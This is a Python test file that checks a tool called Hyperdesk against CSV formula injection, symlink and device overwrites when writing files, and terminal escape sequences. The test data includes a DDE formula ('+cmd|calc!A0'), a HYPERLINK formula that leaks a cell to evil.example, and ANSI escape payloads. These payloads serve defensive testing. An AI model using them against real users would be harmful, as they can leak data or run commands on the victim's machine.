"""What Hyperdesk writes cannot be turned against the person reading it: no CSV cell
runs as a spreadsheet formula, no file or device is written through a link or in
place, and no escape sequence from a file reaches the terminal."""

import csv
import io
import os

from hyperdesk.core.formatting import spreadsheet_safe
from tests.core.cli.test_cli import run_cli
from tests.core.model.test_model import searched

# A table whose class names and a column's name look like formulas.
HOSTILE_TABLE = "+cmd|calc!A0,width,kind\n" + "".join(
    f"{i % 5},{i % 7},{['=1+1', '@SUM(A1)'][i % 2]}\n" for i in range(60)
)
CONFIG = (
    '[data]\nsource = "t.csv"\nsamples = 60\n'
    "[model]\nhidden = [8]\n[train]\nepochs = 2\n[search]\ntrials = 2\n"
)


def test_cells_that_look_like_formulas_are_written_as_text():
    assert spreadsheet_safe('=HYPERLINK("http://evil.example/?leak="&A1,"click")').startswith("'=")
    for formula in ("+cmd|calc!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_safe(formula) == "'" + formula
    for kept in ("-0.5", "+1e5", "plain", "", 3.5, None):
        assert spreadsheet_safe(kept) == kept


def test_a_note_exported_as_csv_and_predictions_never_run_as_formulas(capsys, tmp_path):
    (tmp_path / "t.csv").write_text(HOSTILE_TABLE)
    session = searched(capsys, tmp_path, CONFIG)
    leak = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert run_cli(capsys, "note", session, "--trial", 1, "-m", leak)[0] == 0
    code, out, _ = run_cli(capsys, "export", session, "--csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["note"] == "'" + leak
    assert all(not row["final_val_acc"].startswith("'") for row in rows)  # numbers kept
    model = tmp_path / "m.hdmodel"
    assert run_cli(capsys, "model", session, "--out", model)[0] == 0
    code, out, _ = run_cli(capsys, "predict", model, tmp_path / "t.csv")
    table = list(csv.reader(io.StringIO(out)))
    assert code == 0 and table[0][2:] == ["p_=1+1", "p_@SUM(A1)"]  # not formulas
    assert {row[1] for row in table[1:]} <= {"'=1+1", "'@SUM(A1)"}  # the class names are


def test_predict_out_is_written_as_every_export_is(capsys, tmp_path):
    (tmp_path / "t.csv").write_text(HOSTILE_TABLE)
    session = searched(capsys, tmp_path, CONFIG)
    model = tmp_path / "m.hdmodel"
    assert run_cli(capsys, "model", session, "--out", model)[0] == 0
    inputs = tmp_path / "t.csv"
    # A link to another file: the link is replaced, the file it pointed to untouched.
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me")
    link = tmp_path / "out.csv"
    link.symlink_to(precious)
    code, _, err = run_cli(capsys, "predict", model, inputs, "--out", link)
    assert code == 2 and "exists" in err and "--force" in err
    assert run_cli(capsys, "predict", model, inputs, "--out", link, "--force")[0] == 0
    assert precious.read_text() == "keep me" and not link.is_symlink()
    assert link.read_text().startswith("input,predicted")
    # A folder, a device, a missing folder: a message, nothing written, no traceback.
    for out, words in (
        (tmp_path, "is a folder"),
        ("/dev/full", "not a regular file"),
        (tmp_path / "gone" / "p.csv", "No such file or directory"),
    ):
        code, _, err = run_cli(capsys, "predict", model, inputs, "--out", out, "--force")
        assert code == 2 and words in err and "Traceback" not in err, err
    assert os.path.exists("/dev/full") and not os.path.isfile("/dev/full")
    code, _, err = run_cli(capsys, "model", session, "--out", "/dev/full", "--force")
    assert code == 2 and "not a regular file" in err
    assert not list(tmp_path.glob(".*.partial"))


def test_escape_sequences_from_files_never_reach_the_terminal(capsys, tmp_path):
    (tmp_path / "t.csv").write_text(HOSTILE_TABLE)
    session = searched(capsys, tmp_path, CONFIG)
    clear, title = "\x1b[2J", "\x1b]0;owned\x07"
    assert run_cli(capsys, "note", session, "-m", f"fine{clear}{title}\nsecond line")[0] == 0
    code, out, _ = run_cli(capsys, "note", session)
    assert "\x1b" not in out and "\\x1b[2J" in out and "second line" in out
    model = tmp_path / "m.hdmodel"
    assert run_cli(capsys, "model", session, "--out", model)[0] == 0
    # The message names the file's columns, one of them made to clear the screen.
    (tmp_path / "bad.csv").write_text(f"width,col{clear}\n1,2\n")
    code, _, err = run_cli(capsys, "predict", model, tmp_path / "bad.csv")
    assert code == 2 and "no column '+cmd|calc!A0'" in err
    assert "\x1b" not in err and "col\\x1b[2J" in err
